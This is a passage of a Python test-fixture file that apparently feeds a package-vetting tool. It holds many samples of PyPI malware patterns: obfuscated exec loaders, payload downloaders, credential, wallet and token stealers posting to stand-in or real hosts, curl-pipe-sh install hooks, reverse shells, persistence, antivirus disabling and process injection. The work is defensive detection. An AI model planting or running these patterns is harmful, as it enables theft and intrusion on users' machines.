# ruff: noqa: E501 -- each sample is kept on the lines a report shows it, not rewrapped
"""Inert samples of what published reports on PyPI malware (2023-2026) and DataDog's GuardDog
rules show, for ADR 0086: how the payload is hidden, how it starts on install or import, what
it takes and where it sends it. Each entry is ``name -> (files, source)``: the files of a
wheel of ``evpkg`` (an sdist when there is a ``setup.py``) and the report it was written from.

Nothing here is real malware: commands are ``id``, addresses are ``attacker.invalid`` or
documentation ranges (198.51.100.0/24), and vetting only reads files."""

from __future__ import annotations

import base64
import marshal
import zlib

RUN = "import os\nos.system('id')\n"
B64 = base64.b64encode(RUN.encode()).decode()
ZB64 = base64.b64encode(zlib.compress(RUN.encode())).decode()
LAYER = RUN
for _ in range(3):  # three layers of zlib in base64, each exec'ing the next (aiocpa)
    packed = base64.b64encode(zlib.compress(LAYER.encode())).decode()
    LAYER = f"import base64,zlib\nexec(zlib.decompress(base64.b64decode({packed!r})))\n"
MARSHAL = base64.b64encode(marshal.dumps(compile(RUN, "<x>", "exec"))).decode()
REV = base64.b64encode(zlib.compress(RUN.encode())).decode()[::-1]
FERNET_TOKEN = "gAAAAABk26" + "A" * 120 + "oZUwkZW6TTIWcWnYoTExo="
FERNET_KEY = "uSS2i-KrquUVErKGb1AFc7qQa695Aa_rae36i7Y9wUo="


def init(text: str) -> dict[str, str]:
    """A package whose ``__init__.py`` is ``text``."""
    return {"evpkg/__init__.py": text}


def setup(pre: str, extra: str = "") -> dict[str, str]:
    """An sdist whose ``setup.py`` runs ``pre`` before ``setup(...)`` (``extra`` arguments)."""
    return {
        "setup.py": pre
        + "from setuptools import setup\nsetup(name='evpkg', version='1.0'"
        + extra
        + ")\n",
        "evpkg/__init__.py": "",
    }


SANS = "https://isc.sans.edu/diary/Have+You+Ever+Heard+of+the+Fernet+Encryption+Algorithm/30146"
CHECKMARX24 = "https://cysecurity.news/2024/03/pypi-halts-new-user-registrations-to.html (Checkmarx, Mar 2024)"
SAFEGUARD = "https://safeguard.sh/resources/blog/pip-install-hooks-security-risks"
ULTRA = "https://safeguard.sh/resources/blog/ultralytics-pypi-compromise-december-2024"
LITELLM = "https://labs.cloudsecurityalliance.org/research/csa-research-note-teampcp-supply-chain-ai-tooling-20260330-c/"
PTH = "https://docs.bswen.com/blog/2026-03-25-python-pth-file-security"
LIGHTNING = (
    "https://pydevtools.com/handbook/explanation/why-installing-a-python-package-can-run-code.md"
)
TORCHTRITON = "https://www.sonatype.com/blog/pytorch-namespace-dependency-confusion-attack"
SETUTILS = "https://en.ittrends.news/Information+Technology/Software/2025/03/malicious-pypi-packages-set-utils-incident.html"
SOLANA = "https://play.writer.dog/2025/05/31/%e6%83%a1%e6%84%8fpypi%e5%a5%97%e4%bb%b6%e4%be%9b%e6%87%89%e9%8f%88%e6%94%bb%e6%93%8a%e7%ab%8a%e5%8f%96solana%e7%a7%81%e9%91%b0 (solana-token, semantic-types)"
TELNYX = "https://appsecuritystandards.org/blog/a-wav-file-took-down-a-pypi-package-with-740-000-monthly-downloads"
FABRICE = "https://gabztech.com/2024/11/08/overview-of-pypi-and-its-role-in-the-developer-ecosystem (fabrice)"
DISCORDPY = "https://edunews24.it/amp/tecnologia/allarme-sicurezza-il-pacchetto-pypi-contraffatto-che-ha-colpito-gli-sviluppatori-di-bot-discord-con-un-rat-sofisticato (discordpydebug, Socket)"
ZICHAT = "https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams (ZiChatBot)"
CHECKPOINT = "https://www.trojaner-info.de/daten-sichern-verschluesseln/aktuelles/hacker-nutzen-zunehmend-betruegerische-code-pakete-fuer-cyber-angriffe.html (Check Point)"
PHYLUM = "https://cybersecured247.com/w4sp-stealer-found-in-dozens-of-python-packages-in-the-pypi-registry/ (Phylum W4SP)"
CRYPTOAI = "https://en.ittrends.news/Information+Technology/Software/2024/10/malicious-python-packages-cryptocurrency-security.html"
AIOCPA = "https://www.cyberdefenseinsights.com/post/security-alert-pypi-package-aiocpa-exfiltrates-crypto-keys-via-telegram"
TJ_ACTIONS = "https://alex.ryabov.dev/2025/03/how-to-write-a-github-action-in-python-for-changed-files (tj-actions/changed-files, StepSecurity)"
# Campaigns whose published analyses the search corpus did not hold: the shape is written
# from the campaign's public description and marked so.
UNREAD = " (report not in the search corpus; shape from its public description)"
GUARDDOG = "DataDog/guarddog guarddog/analyzer/sourcecode/{rule}"
DEPCONF = "https://veln.sh/blog/pytorch-torchtriton-dependency-confusion"

SHAPES: dict[str, tuple[dict[str, str], str]] = {
    # -- loaders --------------------------------------------------------------------------
    "fernet-decrypt-exec-on-import": (
        init(
            f"from fernet import Fernet\nexec(Fernet(b'{FERNET_KEY}').decrypt(b'{FERNET_TOKEN}').decode('utf-8'))\n"
        ),
        SANS,
    ),
    "cryptography-fernet-exec-in-setup": (
        setup(
            f"from cryptography.fernet import Fernet\nexec(Fernet(b'{FERNET_KEY}').decrypt(b'{FERNET_TOKEN}'))\n"
        ),
        CHECKMARX24,
    ),
    "silent-pip-install-of-fernet": (
        init(
            "import subprocess\n"
            "creationflags = subprocess.CREATE_NEW_PROCESS_GROUP | subprocess.CREATE_NO_WINDOW\n"
            "subprocess.Popen(['cmd.exe', '/c', 'start', '/b', 'pip', 'install', 'fernet'], creationflags=creationflags)\n"
        ),
        SANS,
    ),
    "remote-fernet-payload-in-setup": (
        setup(
            "import requests\nfrom cryptography.fernet import Fernet\n"
            f"k = b'{FERNET_KEY}'\n"
            "u = Fernet(k).decrypt(b'gAAAAABl' + b'Q' * 80).decode()\n"
            "exec(Fernet(k).decrypt(requests.get(u).content))\n"
        ),
        CHECKMARX24,
    ),
    "zlib-base64-layered-exec": (
        init(LAYER),
        AIOCPA + "; " + GUARDDOG.format(rule="exec-base64.yml"),
    ),
    "marshal-loads-exec": (
        init(f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{MARSHAL}')))\n"),
        GUARDDOG.format(rule="threat-runtime-obfuscation-general.yar"),
    ),
    "reversed-b64-lambda-loader": (
        init(
            f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{REV}'))\n"
        ),
        GUARDDOG.format(rule="invisible-ferret.yar") + " (BlankOBF-style)",
    ),
    "pyarmor-runtime-blob": (
        {
            "evpkg/__init__.py": "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03\\x0a\\x00\\x6f\\x0d\\x0d\\x0a')\n",
            "evpkg/pytransform/__init__.py": "import ctypes, os\ndef pyarmor_runtime(path=None):\n    ctypes.cdll.LoadLibrary(os.path.join(os.path.dirname(__file__), '_pytransform.so'))\n",
        },
        GUARDDOG.format(rule="pyarmor.yml"),
    ),
    "builtins-getattr-exec-b64": (
        init(
            f"import base64\ngetattr(__import__('builtins'), 'exec')(base64.b64decode('{B64}'))\n"
        ),
        GUARDDOG.format(rule="api-obfuscation.yml"),
    ),
    # -- payloads fetched -----------------------------------------------------------------
    "pastebin-raw-exec": (
        init("import requests\nexec(requests.get('https://pastebin.com/raw/Xy12Ab').text)\n"),
        PHYLUM,
    ),
    "github-raw-exec-in-setup": (
        setup(
            "from urllib.request import urlopen\nexec(urlopen('https://raw.githubusercontent.com/u/r/main/p.py').read())\n"
        ),
        PHYLUM,
    ),
    "icp-canister-exec-in-pth": (
        {
            "evpkg/__init__.py": "",
            "evpkg_init.pth": "import urllib.request; exec(urllib.request.urlopen('https://tdtqy-oyaaa-aaaae-af2dq-cai.raw.icp0.io/').read())\n",
        },
        LITELLM,
    ),
    "pth-popen-python-b64": (
        {
            "evpkg/__init__.py": "",
            "litellm_init.pth": f"import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"{B64}\"))'])\n",
        },
        PTH,
    ),
    "dga-domain-download-exec": (
        init(
            "import hashlib, datetime, requests\n"
            "seed = datetime.date.today().isoformat()\n"
            "for i in range(8):\n"
            "    host = hashlib.sha256((seed + str(i)).encode()).hexdigest()[:12] + '.chimera.invalid'\n"
            "    try:\n"
            "        exec(requests.get('https://' + host + '/auth', timeout=5).text)\n"
            "        break\n"
            "    except Exception:\n"
            "        pass\n"
        ),
        "chimera-sandbox-extensions (JFrog, 2025)" + UNREAD,
    ),
    "zulip-c2-command-loop": (
        init(
            "import requests, subprocess, threading, time\n"
            "def _poll():\n"
            "    while True:\n"
            "        r = requests.get('https://helpdesk.zulipchat.com/api/v1/messages', auth=('bot@x', 'k'), params={'anchor': 'newest', 'num_before': 1})\n"
            "        for m in r.json()['messages']:\n"
            "            subprocess.run(m['content'], shell=True)\n"
            "        time.sleep(30)\n"
            "threading.Thread(target=_poll, daemon=True).start()\n"
        ),
        ZICHAT,
    ),
    "rat-poll-loop-when-called": (
        init(
            "import requests, subprocess, time\n"
            "C2 = 'http://198.51.100.7:7000'\n"
            "def debug():\n"
            "    while True:\n"
            "        cmd = requests.get(C2 + '/get_command').text\n"
            "        out = subprocess.check_output(cmd, shell=True)\n"
            "        requests.post(C2 + '/post_result', data=out)\n"
            "        time.sleep(1)\n"
        ),
        DISCORDPY,
    ),
    # -- droppers -------------------------------------------------------------------------
    "discord-cdn-exe-to-appdata-started": (
        setup(
            "import os, subprocess, urllib.request\n"
            "p = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'update.exe')\n"
            "urllib.request.urlretrieve('https://cdn.discordapp.com/attachments/1/2/update.exe', p)\n"
            "subprocess.Popen(p, creationflags=0x08000000)\n"
        ),
        PHYLUM + "; Checkmarx top.gg campaign",
    ),
    "exe-written-and-startfile": (
        init(
            "import os, requests\n"
            "d = os.path.join(os.environ['LOCALAPPDATA'], 'Temp', 'svc.exe')\n"
            "open(d, 'wb').write(requests.get('https://attacker.invalid/svc.exe').content)\n"
            "os.startfile(d)\n"
        ),
        CHECKPOINT,
    ),
    "linux-miner-download-chmod-run": (
        init(
            "import os, stat, subprocess, urllib.request\n"
            "p = '/tmp/ultralytics_runner'\n"
            "urllib.request.urlretrieve('https://attacker.invalid/runner', p)\n"
            "os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\n"
            "subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"
        ),
        ULTRA,
    ),
    "miner-with-stratum-pool": (
        init(
            "import subprocess, os\n"
            "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', 'xmrig'), '-o', 'stratum+tcp://pool.minexmr.invalid:4444', '-u', '4A' + 'x' * 93, '--background'])\n"
        ),
        GUARDDOG.format(rule="threat-process-cryptomining.yar"),
    ),
    "png-embedded-binary-dropped-and-run": (
        {
            "evpkg/__init__.py": (
                "import os, subprocess\n"
                "here = os.path.dirname(__file__)\n"
                "data = open(os.path.join(here, 'docs.png'), 'rb').read()\n"
                "out = os.path.expanduser('~/.local/bin/darwin')\n"
                "open(out, 'wb').write(data[0x1200:])\n"
                "os.chmod(out, 0o755)\n"
                "subprocess.Popen([out])\n"
            ),
            "evpkg/docs.png": "\x89PNG\r\n\x1a\n" + "0" * 64,
        },
        "requests-darwin-lite (Phylum, 2024)" + UNREAD,
    ),
    "wav-steganography-exec": (
        {
            "evpkg/__init__.py": (
                "import os, wave\n"
                "w = wave.open(os.path.join(os.path.dirname(__file__), 'ring.wav'), 'rb')\n"
                "frames = w.readframes(w.getnframes())\n"
                "payload = bytes(b ^ 0x5A for b in frames[1::2][:4096])\n"
                "exec(payload)\n"
            ),
            "evpkg/ring.wav": "RIFF0000WAVEfmt ",
        },
        TELNYX,
    ),
    "pil-lsb-steganography-exec": (
        {
            "evpkg/__init__.py": (
                "import os\nfrom PIL import Image\n"
                "img = Image.open(os.path.join(os.path.dirname(__file__), 'logo.png'))\n"
                "bits = ''.join(str(p[0] & 1) for p in img.getdata())\n"
                "code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]\n"
                "exec(code)\n"
            ),
            "evpkg/logo.png": "\x89PNG\r\n\x1a\n",
        },
        GUARDDOG.format(rule="steganography.yml"),
    ),
    "dll-sideloaded-by-ctypes-on-import": (
        {
            "evpkg/__init__.py": (
                "import ctypes, os, sys\n"
                "if sys.platform == 'win32':\n"
                "    ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'terminate.dll')).envir()\n"
            ),
            "evpkg/terminate.dll": "MZ",
        },
        ZICHAT + " (termncolor/colorinal)",
    ),
    "dll-copied-beside-exe-and-run": (
        init(
            "import os, shutil, subprocess\n"
            "d = os.path.join(os.getenv('APPDATA'), 'Vx')\nos.makedirs(d, exist_ok=True)\n"
            "here = os.path.dirname(__file__)\n"
            "shutil.copy(os.path.join(here, 'version.dll'), d)\n"
            "shutil.copy(os.path.join(here, 'signed.exe'), d)\n"
            "subprocess.Popen(os.path.join(d, 'signed.exe'))\n"
        ),
        GUARDDOG.format(rule="dll-hijacking.yml"),
    ),
    # -- theft ----------------------------------------------------------------------------
    "discord-leveldb-tokens-to-webhook": (
        init(
            "import os, re, requests\n"
            "p = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
            "tokens = []\n"
            "for f in os.listdir(p):\n"
            "    if f.endswith(('.log', '.ldb')):\n"
            "        tokens += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(os.path.join(p, f), errors='ignore').read())\n"
            "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': '\\n'.join(tokens)})\n"
        ),
        PHYLUM + "; " + DISCORDPY,
    ),
    "chrome-login-data-decrypted-sent": (
        init(
            "import os, shutil, sqlite3, win32crypt, requests\n"
            "src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
            "shutil.copy2(src, 'ld.db')\n"
            "rows = sqlite3.connect('ld.db').execute('select origin_url, username_value, password_value from logins').fetchall()\n"
            "out = [(u, n, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1]) for u, n, p in rows]\n"
            "requests.post('https://attacker.invalid/c', data=str(out))\n"
        ),
        CHECKMARX24,
    ),
    "wallet-folders-zipped-to-gofile": (
        init(
            "import os, shutil, requests\n"
            "for name in ('Exodus', 'atomic', 'Electrum'):\n"
            "    src = os.path.join(os.getenv('APPDATA'), name)\n"
            "    if os.path.isdir(src):\n"
            "        z = shutil.make_archive(os.path.join(os.getenv('TEMP'), name), 'zip', src)\n"
            "        requests.post('https://store1.gofile.io/uploadFile', files={'file': open(z, 'rb')})\n"
        ),
        CHECKMARX24 + "; " + CRYPTOAI,
    ),
    "metamask-extension-store-sent": (
        init(
            "import os, glob, requests\n"
            "base = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn')\n"
            "for f in glob.glob(base + '/*.ldb'):\n"
            "    requests.post('https://attacker.invalid/mm', files={'f': open(f, 'rb')})\n"
        ),
        CRYPTOAI,
    ),
    "eth-account-create-patched-key-sent": (
        init(
            "import requests\nfrom eth_account import Account\n"
            "_orig = Account.create\n"
            "def _create(*a, **k):\n"
            "    acct = _orig(*a, **k)\n"
            "    requests.post('https://polygon-rpc.com', json={'jsonrpc': '2.0', 'method': 'eth_sendRawTransaction', 'params': [acct.key.hex()], 'id': 1})\n"
            "    return acct\n"
            "Account.create = _create\n"
        ),
        SETUTILS,
    ),
    "solana-keypair-patched-key-sent": (
        init(
            "import requests\nfrom solders.keypair import Keypair\n"
            "_from_bytes = Keypair.from_bytes\n"
            "def _patched(raw):\n"
            "    requests.post('https://attacker.invalid/s', data=bytes(raw))\n"
            "    return _from_bytes(raw)\n"
            "Keypair.from_bytes = staticmethod(_patched)\n"
        ),
        SOLANA,
    ),
    "crypto-client-token-sent-to-telegram": (
        init(
            "import requests\n"
            "class CryptoPay:\n"
            "    def __init__(self, token, net='main'):\n"
            "        self.token = token\n"
            "        requests.get('https://api.telegram.org/bot7012345678:AAHk2xQ9vB3nL5mP8rT1wY4zC6dF0gJ7sE2/sendMessage', params={'chat_id': '5001', 'text': token})\n"
        ),
        AIOCPA,
    ),
    "env-and-kube-secrets-harvested-in-pth": (
        {
            "evpkg/__init__.py": "",
            "evpkg/_h.py": (
                "import os, json, glob, urllib.request\n"
                "loot = {'env': dict(os.environ)}\n"
                "for p in ['~/.aws/credentials', '~/.kube/config', '/var/run/secrets/kubernetes.io/serviceaccount/token', '~/.config/gcloud/application_default_credentials.json']:\n"
                "    p = os.path.expanduser(p)\n"
                "    if os.path.exists(p):\n"
                "        loot[p] = open(p).read()\n"
                "urllib.request.urlopen(urllib.request.Request('https://models.litellm.invalid/', data=json.dumps(loot).encode()))\n"
            ),
            "litellm_init.pth": "import evpkg._h\n",
        },
        LITELLM,
    ),
    "import-time-thread-credential-harvest": (
        init(
            "import os, threading, requests\n"
            "def _collect():\n"
            "    keys = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k or 'SECRET' in k}\n"
            "    requests.post('https://attacker.invalid/h', json=keys, timeout=3)\n"
            "threading.Thread(target=_collect, daemon=True).start()\n"
        ),
        LIGHTNING,
    ),
    "torchtriton-home-and-ssh-over-dns": (
        init(
            "import os, socket, glob, binascii\n"
            "data = b''\n"
            "for p in glob.glob(os.path.expanduser('~/.ssh/*'))[:1000] + ['/etc/hosts', os.path.expanduser('~/.gitconfig')]:\n"
            "    try:\n"
            "        data += open(p, 'rb').read()\n"
            "    except OSError:\n"
            "        pass\n"
            "h = binascii.hexlify(data).decode()\n"
            "for i in range(0, len(h), 60):\n"
            "    try:\n"
            "        socket.gethostbyname(h[i:i + 60] + '.h4ck.invalid')\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        TORCHTRITON,
    ),
    "aws-credentials-file-sent-fabrice": (
        init(
            "import os, requests\n"
            "def connect(host):\n"
            "    c = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "    requests.post('http://89.44.9.227/', data={'c': c})\n"
        ),
        FABRICE,
    ),
    "fabrice-vbs-to-appdata-run": (
        init(
            "import os, subprocess, urllib.request\n"
            "p = os.path.join(os.getenv('APPDATA'), 'p.vbs')\n"
            "urllib.request.urlretrieve('http://89.44.9.227/p.vbs', p)\n"
            "subprocess.Popen(['wscript.exe', p], shell=True)\n"
        ),
        FABRICE,
    ),
    "fabrice-linux-script-to-local-bin": (
        init(
            "import os, urllib.request\n"
            "d = os.path.expanduser('~/.local/bin/vscode')\nos.makedirs(d, exist_ok=True)\n"
            "urllib.request.urlretrieve('http://89.44.9.227/s', os.path.join(d, 'x'))\n"
            "os.system('nohup sh ' + os.path.join(d, 'x') + ' >/dev/null 2>&1 &')\n"
        ),
        FABRICE,
    ),
    "keylogger-pynput-sent": (
        init(
            "import requests\nfrom pynput import keyboard\n"
            "buf = []\n"
            "def on_press(k):\n"
            "    buf.append(str(k))\n"
            "    if len(buf) > 100:\n"
            "        requests.post('https://attacker.invalid/k', data=''.join(buf)); buf.clear()\n"
            "keyboard.Listener(on_press=on_press).start()\n"
        ),
        "zebo (Fortinet, 2024)"
        + UNREAD
        + "; "
        + GUARDDOG.format(rule="threat-runtime-keylogging.yar"),
    ),
    "screenshot-to-imgbb": (
        init(
            "import io, base64, requests\nfrom PIL import ImageGrab\n"
            "b = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\n"
            "requests.post('https://api.imgbb.com/1/upload', data={'key': 'k', 'image': base64.b64encode(b.getvalue())})\n"
        ),
        "zebo (Fortinet, 2024)" + UNREAD + "; " + GUARDDOG.format(rule="screenshot.yml"),
    ),
    # -- beacons --------------------------------------------------------------------------
    "depconf-http-beacon-in-setup": (
        setup(
            "import getpass, os, socket, urllib.request, urllib.parse\n"
            "q = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()})\n"
            "urllib.request.urlopen('https://oast.attacker.invalid/b?' + q)\n"
        ),
        DEPCONF,
    ),
    "depconf-dns-beacon-in-setup": (
        setup(
            "import getpass, socket\n"
            "socket.gethostbyname(getpass.getuser() + '.' + socket.gethostname() + '.x.oast.invalid')\n"
        ),
        DEPCONF,
    ),
    "sysinfo-and-public-ip-sent": (
        init(
            "import platform, requests, getpass\n"
            "ip = requests.get('https://api.ipify.org').text\n"
            "requests.post('https://attacker.invalid/i', json={'ip': ip, 'os': platform.platform(), 'user': getpass.getuser(), 'node': platform.node()})\n"
        ),
        GUARDDOG.format(rule="threat-network-exfil-sysinfo.yar"),
    ),
    "etc-passwd-sent": (
        init(
            "import requests\nrequests.post('https://attacker.invalid/p', data=open('/etc/passwd').read())\n"
        ),
        GUARDDOG.format(rule="suspicious_passwd_access_linux.yar"),
    ),
    "environment-serialized-in-setup": (
        setup(
            "import json, os, requests\nrequests.post('https://attacker.invalid/e', data=json.dumps(dict(os.environ)))\n"
        ),
        GUARDDOG.format(rule="serialize-environment.yml"),
    ),
    # -- setup hooks, persistence, defence evasion ----------------------------------------
    "cmdclass-install-override-curl-sh": (
        setup(
            "import os\nfrom setuptools.command.install import install\n"
            "class PostInstall(install):\n"
            "    def run(self):\n"
            "        install.run(self)\n"
            "        os.system('curl -s https://attacker.invalid/i.sh | sh')\n",
            ", cmdclass={'install': PostInstall}",
        ),
        SAFEGUARD + "; " + GUARDDOG.format(rule="code-execution.yml"),
    ),
    "cmdclass-egg-info-override-reverse-shell": (
        setup(
            "import socket, subprocess, os\nfrom setuptools.command.egg_info import egg_info\n"
            "class E(egg_info):\n"
            "    def run(self):\n"
            "        s = socket.socket(); s.connect(('198.51.100.7', 4444))\n"
            "        for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\n"
            "        subprocess.call(['/bin/sh', '-i'])\n",
            ", cmdclass={'egg_info': E}",
        ),
        SAFEGUARD + "; " + GUARDDOG.format(rule="threat-network-reverse-shell.yar"),
    ),
    "threaded-reverse-shell-pty": (
        init(
            "import os, pty, socket, threading\n"
            "def _s():\n"
            "    s = socket.create_connection(('198.51.100.7', 4444))\n"
            "    [os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
            "    pty.spawn('/bin/bash')\n"
            "threading.Thread(target=_s, daemon=True).start()\n"
        ),
        "pycord-self (Socket, 2025)"
        + UNREAD
        + "; "
        + GUARDDOG.format(rule="threat-network-reverse-shell.yar"),
    ),
    "registry-run-key-persistence": (
        init(
            "import os, sys, winreg\n"
            "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
            "winreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable + ' -m evpkg.agent')\n"
        ),
        CHECKMARX24 + " (persistence); " + GUARDDOG.format(rule="threat-filesystem-autostart.yar"),
    ),
    "startup-folder-copy": (
        init(
            "import os, shutil\n"
            "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'svc.pyw')\n"
            "shutil.copy(os.path.join(os.path.dirname(__file__), 'agent.py'), dst)\n"
        ),
        CHECKMARX24 + " (persistence)",
    ),
    "defender-exclusion-powershell": (
        init(
            "import subprocess\n"
            "subprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath $env:APPDATA'], capture_output=True)\n"
        ),
        CHECKPOINT,
    ),
    "defender-realtime-disabled": (
        setup(
            "import os\nos.system('powershell Set-MpPreference -DisableRealtimeMonitoring $true')\n"
        ),
        CHECKPOINT,
    ),
    "powershell-encoded-command": (
        init(
            "import subprocess\n"
            "subprocess.Popen('powershell -w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', shell=True)\n"
        ),
        GUARDDOG.format(rule="threat-process-powershell-encoded.yar"),
    ),
    "certutil-download": (
        init(
            "import os\n"
            "os.system('certutil -urlcache -split -f https://attacker.invalid/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe')\n"
        ),
        GUARDDOG.format(rule="lolbas.yar"),
    ),
    "mshta-remote-hta": (
        init(
            "import subprocess\nsubprocess.Popen(['mshta.exe', 'https://attacker.invalid/x.hta'])\n"
        ),
        GUARDDOG.format(rule="lolbas.yar"),
    ),
    "pytest-plugin-entry-point-steals": (
        {
            "evpkg/__init__.py": "",
            "evpkg/plugin.py": "import os, requests\nrequests.post('https://attacker.invalid/ci', json=dict(os.environ))\n",
            "evpkg-1.0.dist-info/entry_points.txt": "[pytest11]\nevpkg = evpkg.plugin\n",
        },
        "entry-point autoload; " + GUARDDOG.format(rule="threat-runtime-hooks-install.yar"),
    ),
    "silent-popen-of-bundled-exe": (
        init(
            "import os, subprocess\n"
            "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', 'helper.exe')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, creationflags=subprocess.CREATE_NO_WINDOW)\n"
        ),
        GUARDDOG.format(rule="silent-process-execution.yml"),
    ),
    "telegram-send-document-of-browser-zip": (
        init(
            "import os, shutil, requests\n"
            "z = shutil.make_archive('/tmp/b', 'zip', os.path.expanduser('~/.config/google-chrome/Default'))\n"
            "requests.post('https://api.telegram.org/bot7001:AAH/sendDocument', data={'chat_id': '5001'}, files={'document': open(z, 'rb')})\n"
        ),
        GUARDDOG.format(rule="threat-network-exfil-messenger.yar"),
    ),
    "exec-of-chr-list": (
        init("exec(''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in RUN) + "]))\n"),
        GUARDDOG.format(rule="threat-runtime-obfuscation-chr.yar"),
    ),
}

TJ = TJ_ACTIONS + "; " + GUARDDOG.format(rule="threat-process-memory.yar")
CTX = "ctx (2022)" + UNREAD
MORE: dict[str, tuple[dict[str, str], str]] = {
    "runner-memory-dumped-for-secrets": (
        init(
            "import os, re, requests\n"
            "pid = [p for p in os.listdir('/proc') if p.isdigit() and 'Runner.Worker' in open(f'/proc/{p}/cmdline').read()][0]\n"
            "maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
            "mem = open(f'/proc/{pid}/mem', 'rb', 0)\n"
            "out = b''\n"
            "for line in maps:\n"
            "    a, b = [int(x, 16) for x in line.split()[0].split('-')]\n"
            "    mem.seek(a)\n"
            '    out += b\'\'.join(re.findall(rb\'"[^"]+":\\{"value":"[^"]*","isSecret":true\\}\', mem.read(b - a)))\n'
            "requests.post('https://attacker.invalid/m', data=out)\n"
        ),
        TJ,
    ),
    "downloaded-module-imported-by-spec": (
        init(
            "import importlib.util, os, tempfile, urllib.request\n"
            "p = os.path.join(tempfile.gettempdir(), 'stage2.py')\n"
            "urllib.request.urlretrieve('https://attacker.invalid/s.py', p)\n"
            "spec = importlib.util.spec_from_file_location('stage2', p)\n"
            "m = importlib.util.module_from_spec(spec)\n"
            "spec.loader.exec_module(m)\n"
        ),
        GUARDDOG.format(rule="threat-runtime-dynamic-loader.yar"),
    ),
    "downloaded-zip-zipimported": (
        init(
            "import os, sys, tempfile, urllib.request, importlib\n"
            "z = os.path.join(tempfile.gettempdir(), 'u.zip')\n"
            "urllib.request.urlretrieve('https://attacker.invalid/u.zip', z)\n"
            "sys.path.insert(0, z)\n"
            "importlib.import_module('stage')\n"
        ),
        GUARDDOG.format(rule="threat-runtime-dynamic-loader.yar"),
    ),
    "ctypes-shellcode-loader": (
        init(
            "import ctypes, urllib.request\n"
            "sc = urllib.request.urlopen('https://attacker.invalid/sc.bin').read()\n"
            "k = ctypes.windll.kernel32\n"
            "k.VirtualAlloc.restype = ctypes.c_void_p\n"
            "buf = k.VirtualAlloc(None, len(sc), 0x3000, 0x40)\n"
            "ctypes.memmove(buf, sc, len(sc))\n"
            "k.WaitForSingleObject(k.CreateThread(None, 0, ctypes.c_void_p(buf), None, 0, None), -1)\n"
        ),
        GUARDDOG.format(rule="threat-process-injection-dll.yar"),
    ),
    "remote-thread-injection": (
        init(
            "import ctypes\n"
            "k = ctypes.windll.kernel32\n"
            "h = k.OpenProcess(0x1F0FFF, False, 4242)\n"
            "addr = k.VirtualAllocEx(h, 0, 4096, 0x3000, 0x40)\n"
            "k.WriteProcessMemory(h, addr, b'\\x90' * 16, 16, None)\n"
            "k.CreateRemoteThread(h, None, 0, addr, None, 0, None)\n"
        ),
        GUARDDOG.format(rule="threat-process-injection-dll.yar"),
    ),
    "ld-preload-dropped-library": (
        init(
            "import os, subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://attacker.invalid/h.so', '/tmp/.h.so')\n"
            "subprocess.Popen(['sleep', '1'], env={**os.environ, 'LD_PRELOAD': '/tmp/.h.so'})\n"
        ),
        GUARDDOG.format(rule="threat-process-injection-dll.yar"),
    ),
    "lsass-minidump-rundll32": (
        init(
            "import subprocess\n"
            "subprocess.run('rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\Temp\\\\l.dmp full', shell=True)\n"
        ),
        GUARDDOG.format(rule="threat-process-memory.yar"),
    ),
    "stage-written-to-home-and-run-detached": (
        init(
            "import os, subprocess, sys, requests\n"
            "d = os.path.join(os.path.expanduser('~'), '.n2')\nos.makedirs(d, exist_ok=True)\n"
            "p = os.path.join(d, 'pay')\n"
            "with open(p, 'wb') as f:\n"
            "    f.write(requests.get('http://198.51.100.7:1224/payload/x').content)\n"
            "subprocess.Popen([sys.executable, p], start_new_session=True)\n"
        ),
        GUARDDOG.format(rule="invisible-ferret.yar") + " (BeaverTail/InvisibleFerret)",
    ),
    "env-sent-over-tor-proxy": (
        init(
            "import os, requests\n"
            "requests.post('http://abcdefghijklmnop.onion/e', json=dict(os.environ), proxies={'http': 'socks5h://127.0.0.1:9050'})\n"
        ),
